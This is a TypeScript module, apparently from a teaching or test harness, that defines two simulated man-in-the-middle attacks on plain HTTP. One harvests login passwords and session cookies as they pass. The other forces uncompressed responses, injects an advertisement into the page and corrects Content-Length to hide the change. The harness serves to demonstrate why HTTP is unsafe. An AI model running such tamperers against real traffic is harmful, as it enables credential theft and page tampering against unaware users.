/** What anyone between the two can do to HTTP: read, and write. */
import { latin1Bytes, latin1Text } from '../../wire/bytes.ts'
import type { Attack } from './attack.ts'

const ADVERTISEMENT = '<p>BUY CHEAP PILLS at pills.example!</p>'

/** Reads the login form as it passes. */
const readPassword: Attack = {
  id: 'read-password',
  over: 'http',
  does: 'reads the login form as it passes',
  expected: 'succeeds',
  tamperer: learn => (bytes, way) => {
    const form = /(?:^|[\n&])user=([^&\s]*)&password=([^&\s]*)/.exec(latin1Text(bytes))
    if (way === 'to-server' && form !== null) learn(`user ${form[1]}, password ${decodeURIComponent(form[2] ?? '')}`)
    const cookie = /set-cookie: ([^;\r\n]*)/i.exec(latin1Text(bytes))
    if (way === 'to-client' && cookie !== null) learn(`session cookie ${cookie[1]}`)
    return [bytes]
  },
  wins: seen => seen.status === 200,
}

/** Puts an advertisement into the page and corrects Content-Length, so that the browser notices nothing. */
const injectAdvertisement: Attack = {
  id: 'inject-advertisement',
  over: 'http',
  does: 'writes an advertisement into the page',
  expected: 'succeeds',
  tamperer: learn => (bytes, way) => {
    const text = latin1Text(bytes)
    // What is compressed cannot be edited in passing: the server is told that the browser cannot unpack.
    if (way === 'to-server') return [latin1Bytes(text.replace(/accept-encoding: [^\r]*/i, 'Accept-Encoding: identity'))]
    if (!text.includes('</body>')) return [bytes]
    learn(`its own words in the shop's page: “${ADVERTISEMENT.replace(/<[^>]*>/g, '')}”`)
    const longer = text.replace(
      /content-length: (\d+)/i,
      (_, length) => `content-length: ${Number(length) + ADVERTISEMENT.length}`,
    )
    return [latin1Bytes(longer.replace('</body>', `${ADVERTISEMENT}</body>`))]
  },
  wins: seen => seen.body?.includes(ADVERTISEMENT) === true,
}

export const plainAttacks: readonly Attack[] = [readPassword, injectAdvertisement]
